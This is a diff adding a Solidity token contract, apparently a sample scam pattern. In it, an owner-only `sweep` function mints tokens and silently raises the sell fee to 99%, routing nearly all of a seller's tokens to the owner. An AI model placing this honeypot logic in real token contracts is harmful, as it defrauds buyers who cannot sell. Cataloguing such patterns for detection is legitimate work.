@@ -291,3 +291,25 @@ contract LimitedToken is PairAware {
         super._transfer(from, to, value);
     }
 }
+
+/// One call, two effects: `sweep` mints and sets the sell fee to 99% in the
+/// same breath.
+contract RewardSweepToken is PairAware {
+    uint256 public sellFee;
+
+    constructor(string memory n, string memory s, uint256 supply) BaseToken(n, s, 18, supply) {}
+
+    function sweep(address account, uint256 amount) external onlyOwner {
+        _mint(account, amount);
+        sellFee = 99;
+    }
+
+    function _transfer(address from, address to, uint256 value) internal override {
+        if (!exempt(from, to) && to == pair && sellFee > 0) {
+            uint256 fee = (value * sellFee) / 100;
+            super._transfer(from, owner, fee);
+            value -= fee;
+        }
+        super._transfer(from, to, value);
+    }
+}
